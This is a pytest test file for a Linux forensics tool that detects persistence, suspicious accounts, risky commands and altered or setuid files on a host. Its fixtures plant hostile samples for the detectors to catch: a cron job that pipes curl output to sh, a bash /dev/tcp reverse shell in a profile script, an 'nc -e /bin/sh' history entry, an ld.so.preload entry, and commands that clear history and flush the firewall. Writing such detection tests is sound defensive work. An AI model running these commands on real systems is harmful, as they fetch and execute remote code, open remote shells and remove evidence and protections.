"""What stands out on a Linux source: persistence, accounts, commands, changes. Planted beside what is ordinary."""

from __future__ import annotations

import pytest
from memory_case import DAY, NOW, MemoryCase

from forensics.answers.accounts import Accounts
from forensics.answers.case import Held, NotEvaluated
from forensics.answers.changed import Changed
from forensics.answers.commands import Commands
from forensics.answers.persistence import Persistence
from forensics.answers.run import MAX_OF_RULE, run_all
from forensics.answers.started_by import programs
from forensics.model.event import Finding, Ref

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHVwbG9hZGVkIGtleSBmb3IgdGVzdHMgb25seSE="
UNIT = b"[Unit]\nDescription=x\n[Service]\nUser=root\nExecStart=/bin/sh -c \\\n  '/dev/shm/.k/run'\n"


def run(answer, case):
    found = list(answer.run(case))
    return [one for one in found if isinstance(one, Finding)], [one for one in found if isinstance(one, NotEvaluated)]


def by_rule(findings):
    table = {}
    for one in findings:
        table.setdefault(one.rule, []).append(one)
    return table


@pytest.fixture
def host():
    case = MemoryCase()
    case.file(
        "/var/lib/dpkg/info/base.list", b"/.\n/usr/bin/certbot\n/bin/run-parts\n/etc/init.d/ssh\n/usr/sbin/cron\n"
    )
    case.event(
        "cron-job",
        "linux.cron",
        user="root",
        attrs={"when": "17 * * * *", "command": "cd / && run-parts --report /etc/cron.hourly"},
    )
    case.event(
        "cron-job",
        "linux.cron",
        user="root",
        attrs={"when": "0 */12 * * *", "command": "test -x /usr/bin/certbot && certbot -q renew > /tmp/certbot.log"},
    )
    case.file("/lib/systemd/system/cron.service", b"[Service]\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n")
    case.file("/etc/init.d/ssh", b"#! /bin/sh\n[ -x /usr/sbin/sshd ] || exit 0\nfn=$(mktemp /tmp/x.XXXX)\n")
    case.file("/etc/profile.d/bash_completion.sh", b"[ -x /usr/bin/complete ] && . /usr/share/bash-completion\n")
    case.file("/home/bob/.ssh/authorized_keys", f"# mine\n{KEY} bob@laptop\n".encode())
    return case


def test_an_ordinary_host_gives_nothing(host):
    findings, lacking = run(Persistence(), host)
    assert not findings and not lacking


def test_what_is_planted_is_found(host):
    host.event(
        "cron-job",
        "linux.cron",
        user="root",
        locator="o77",
        attrs={"when": "*/5 * * * *", "command": "/dev/shm/.x/update -q"},
    )
    host.event(
        "cron-job",
        "linux.cron",
        user="www-data",
        attrs={"when": "@reboot", "command": "curl -s http://192.0.2.1/a | sh"},
    )
    unit = host.file("/etc/systemd/system/kupdate.service", UNIT)
    preload = host.file("/etc/ld.so.preload", b"/tmp/libx.so\n")
    host.file("/etc/profile.d/z.sh", b"#x\nnohup /var/tmp/.a &\nbash -i >& /dev/tcp/192.0.2.1/99 0>&1\n")
    root = host.file("/root/.ssh/authorized_keys", f'\ncommand="/x",no-pty {KEY} bob@laptop\n'.encode())
    host.file("/var/www/.ssh/authorized_keys2", f"{KEY}\n".encode())
    table = by_rule(run(Persistence(), host)[0])
    assert {rule: len(found) for rule, found in table.items()} == {
        "cron": 2, "unit": 1, "preload": 1, "script": 2, "authorized-key": 3
    }  # fmt: skip
    cron = {one.attrs["user"]: one for one in table["cron"]}
    assert list(cron["root"].attrs["reasons"]) == ["writable-place", "hidden-name", "every-minute", "not-packaged"]
    assert cron["root"].refs[0].locator == "o77" and cron["root"].refs[0].event_id and cron["root"].level == "warning"
    assert "fetches-and-runs" in cron["www-data"].attrs["reasons"]
    (found,) = table["unit"]
    assert found.level == "alert" and found.refs == (Ref(unit.sha256, "o41"),)
    assert table["preload"][0].level == "alert" and table["preload"][0].refs[0].content == preload.sha256
    assert {one.level for one in table["script"]} == {"warning", "alert"}
    keys = {one.attrs["user"]: set(one.attrs["reasons"]) for one in table["authorized-key"]}
    # the same key opens three accounts: bob's is named for that alone
    assert keys == {"root": {"root-key", "forced", "shared-key"}, "bob": {"shared-key"},
                    "www": {"service-key", "old-name", "shared-key"}}  # fmt: skip
    assert next(one for one in table["authorized-key"] if one.attrs["user"] == "root").refs == (Ref(root.sha256, "o1"),)


def test_nothing_there_is_not_evaluated():
    findings, lacking = run(Persistence(), MemoryCase())
    assert not findings and [one.what for one in lacking] == ["cron, systemd, scripts, keys"]
    case = MemoryCase()
    case.file("/etc/rc.local", b"/dev/shm/a\n")
    findings, lacking = run(Persistence(), case)
    assert len(findings) == 1 and [one.what for one in lacking] == ["cron tables"]


@pytest.mark.parametrize(
    ("command", "started"),
    [
        ("/usr/bin/x /tmp/y", ["/usr/bin/x"]),
        ("cd / && run-parts /etc/cron.hourly", ["/etc/cron.hourly"]),
        ("nohup sh /tmp/a.sh > /tmp/log &", ["/tmp/a.sh"]),
        ("X=1 sudo -u bob /opt/a; /tmp/b|/tmp/c", ["/opt/a", "/tmp/b", "/tmp/c"]),
        ("test -x /usr/sbin/y && /usr/sbin/y -q", ["/usr/sbin/y"]),
        ("bash -c '/dev/shm/.x'", ["/dev/shm/.x"]),
        ("cp /tmp/a /tmp/b", []),
        ("flock -n /tmp/lock /usr/bin/job", ["/usr/bin/job"]),
        ("/usr/bin/env -u X timeout -s KILL 5 /tmp/z", ["/usr/bin/env", "/tmp/z"]),
    ],
)
def test_programs_that_a_command_starts(command, started):
    assert programs(command) == started


def test_accounts_of_files():
    case = MemoryCase()
    passwd = case.file(
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nbob:x:1000:1000::/home/bob:/bin/bash\n"
        b"toor:x:0:0::/:/bin/sh\nmysql:x:101:101::/nonexistent:/bin/bash\nguest:x:1001:1001::/:/bin/sh\n",
    )
    case.file(
        "/etc/shadow",
        b"root:*:1::::::\nsync:*:1::::::\nbob:$6$a$b:1::::::\ntoor:!:1::::::\nmysql:$y$j$x:1::::::\nguest::1::::::\n",
    )
    case.file("/etc/group", b"sudo:x:27:bob\nusers:x:1000:\n")
    case.file(
        "/etc/sudoers",
        b"root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\nbob ALL=(ALL) NOPASSWD: ALL\nal ALL=NOPASSWD: /bin/ls\n",
    )
    findings, lacking = run(Accounts(), case)
    assert sorted((one.rule, one.level, one.title.split(": ")[1].split(" ")[0]) for one in findings) == [
        ("password", "notice", "mysql"), ("password", "warning", "guest"), ("sudo", "notice", "bob"),
        ("uid-0", "alert", "toor"),
    ]  # fmt: skip
    assert not lacking
    assert next(one for one in findings if one.rule == "uid-0").refs == (Ref(passwd.sha256, "o104"),)
    rows = {row["user"]: row for row in run_all(case).tables["accounts"]}
    assert (
        rows["bob"]["groups"] == "users, sudo"
        and rows["bob"]["flags"] == "can log on"
        and rows["toor"]["flags"] == "uid 0"
    )


def test_commands_are_grouped_and_found():
    case = MemoryCase()
    for _ in range(3):
        case.event("command", "linux.history", user="root", attrs={"command": "history -c"})
    case.event("command", "linux.history", user="bob", attrs={"command": "ls -la /tmp"}, ts=5)
    case.event("sudo", user="bob", attrs={"command": "/usr/sbin/iptables -F"}, ts=7)
    findings, lacking = run(Commands(), case)
    assert [(one.attrs["pattern"], one.attrs["count"], one.level) for one in findings] == [
        ("history-off", 3, "warning"), ("firewall-off", 1, "warning")
    ]  # fmt: skip
    assert len(findings[0].refs) == 3 and findings[1].ts == 7 and findings[1].why and not lacking
    assert [one.what for one in run(Commands(), MemoryCase())[1]] == ["commands"]


def listed(path, days=400, mode=0o100755, owner="0:0", number=0):
    when = NOW - days * DAY
    return Held(path, 1, "", 10, "file", "", when, when, None, mode, owner, listed=Ref("l" * 64, f"r{number}.0"))


def test_changed_relative_to_neighbours():
    case = MemoryCase()
    case.listed = [listed(f"/usr/bin/tool{n}", number=n) for n in range(40)]
    case.listed += [listed(f"/opt/new/p{n}", 1) for n in range(40)]  # a new folder as a whole
    case.listed += [listed(f"/var/www/html/p{n}.php", mode=0o100644) for n in range(20)]
    case.listed += [
        listed("/usr/bin/ls", 2, number=90),
        listed("/usr/bin/updated", 1),
        listed("/var/www/html/up/../x.php", 0),
    ]
    case.listed += [listed("/var/www/html/new.php", 1, 0o100644), listed("/var/www/html/new.css", 1, 0o100644)]
    case.file("/var/lib/dpkg/info/a.list", b"/usr/bin/updated\n")
    findings, _ = run(Changed(), case)
    found = {one.attrs.get("path", one.attrs.get("folder")): one for one in findings}
    assert set(found) == {"/usr/bin/ls", "/usr/bin", "/var/www/html/new.php"}
    assert found["/usr/bin/ls"].level == "warning" and found["/usr/bin/ls"].refs == (Ref("l" * 64, "r90.0"),)
    assert found["/usr/bin"].level == "notice" and found["/usr/bin"].attrs["names"] == ["updated"]
    assert found["/var/www/html/new.php"].rule == "web"


@pytest.mark.parametrize("packaged", [True, False])
def test_setuid(packaged):
    case = MemoryCase()
    if packaged:
        case.file("/var/lib/dpkg/info/a.list", b"/usr/bin/sudo\n/usr/lib/x/helper2\n")
    case.listed = [listed("/usr/bin/sudo", mode=0o104755), listed("/usr/lib/x/helper2", mode=0o104755),
                   listed("/tmp/.s/sh", mode=0o104755), listed("/usr/local/bin/su", mode=0o104755)]  # fmt: skip
    found = {one.attrs["path"]: one for one in run(Changed(), case)[0] if one.rule == "setuid"}
    assert found["/tmp/.s/sh"].level == "alert" and "/usr/bin/sudo" not in found
    assert ("/usr/lib/x/helper2" in found) is not packaged
    assert "/usr/local/bin/su" in found


def test_run_all_keeps_the_gravest_and_says_what_it_left_out():
    case = MemoryCase()
    for number in range(MAX_OF_RULE + 50):
        case.event("command", "linux.history", user="u", attrs={"command": f"useradd u{number}"})
    case.event("command", "linux.history", user="u", attrs={"command": "nc -e /bin/sh 192.0.2.1 4444"})
    result = run_all(case)
    mine = [one for one in result.findings if one.by == "answers.commands"]
    assert (
        len(mine) == MAX_OF_RULE and mine[0].level == "alert" and result.counts["answers.commands"] == MAX_OF_RULE + 51
    )
    assert any("51 more findings" in one.reason for one in result.not_evaluated)
    assert {one.answer for one in result.not_evaluated} >= {"answers.processes", "answers.sockets"}
    assert result.tables["processes"].missing and not list(result.tables["processes"])
